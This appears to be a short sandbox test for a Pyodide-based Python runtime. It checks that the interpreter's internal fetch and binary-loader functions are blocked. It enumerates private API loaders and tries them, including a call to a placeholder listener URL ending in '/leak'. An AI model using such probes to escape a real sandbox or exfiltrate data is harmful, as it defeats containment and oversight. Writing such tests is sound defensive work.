# outcome: ok
# with: door
# prints: held: the interpreter's own fetch
# prints: held: lookup of a handed-in file
# While the interpreter starts, fetch is a stand-in; what is left of it must lead nowhere.
import pyodide_js
api = getattr(pyodide_js, "_api", None)
names = [name for name in dir(api) if "fetch" in name.lower() or "load" in name.lower()] if api else []
print("found", len(names))
await door("the interpreter's own fetch", lambda: js.fetch("http://runtime.invalid/python_stdlib.zip"))
async def binary():
    load = getattr(pyodide_js._api, "loadBinaryFile", None)
    if load is None:
        raise OSError("absent")
    return await load.call(pyodide_js._api, "http://{listener}/leak")
await door("lookup of a handed-in file", binary)
